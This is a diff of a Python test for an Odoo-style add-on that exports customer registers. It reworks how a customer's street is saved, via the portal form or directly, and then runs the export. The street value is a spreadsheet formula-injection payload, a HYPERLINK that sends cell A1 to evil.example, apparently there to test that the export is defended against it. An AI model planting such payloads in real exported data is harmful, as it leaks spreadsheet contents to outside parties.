@@ -25,24 +25,26 @@ class TestHostileRegisterExport(RegisterCase, HttpCase):
         partner = portal_user.partner_id
         partner.write({"country_id": self.italy.id, "customer_rank": 1})
         street = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
-        self.authenticate(portal_user.login, portal_user.login)
-        page = self.url_open("/my/account")
-        csrf = CSRF_RE.search(page.text).group(1)
-        self.url_open(
-            "/my/account",
-            data={
-                "csrf_token": csrf,
-                "name": "Piero Portale",
-                "email": "piero@example.com",
-                "phone": "+39 06 4991 0009",
-                "street": street,
-                "city": "Roma",
-                "zipcode": "00184",
-                "country_id": str(self.italy.id),
-            },
-        )
+        values = {
+            "name": "Piero Portale",
+            "email": "piero@example.com",
+            "phone": "+39 06 4991 0009",
+            "street": street,
+            "city": "Roma",
+        }
+        if self.env["ir.module.module"]._get("portal").state == "installed":
+            # Typed by the customer on the portal's account page.
+            self.authenticate(portal_user.login, portal_user.login)
+            page = self.url_open("/my/account")
+            csrf = CSRF_RE.search(page.text).group(1)
+            form = {**values, "zipcode": "00184", "country_id": str(self.italy.id)}
+            self.url_open("/my/account", data={"csrf_token": csrf, **form})
+        else:
+            # No portal (this add-on does not need it): the same street, saved as the
+            # customer would have typed it.
+            partner.write({**values, "zip": "00184"})
         partner.invalidate_recordset()
-        self.assertEqual(partner.street, street, "the portal saved it as typed")
+        self.assertEqual(partner.street, street, "saved as typed")
         with self._at(self.MONDAY_10_ROME):
             action = partner.with_user(self.user_manager).action_followup_rpo_export()
         wizard = self.env["followup.rpo.export"].browse(action["res_id"])
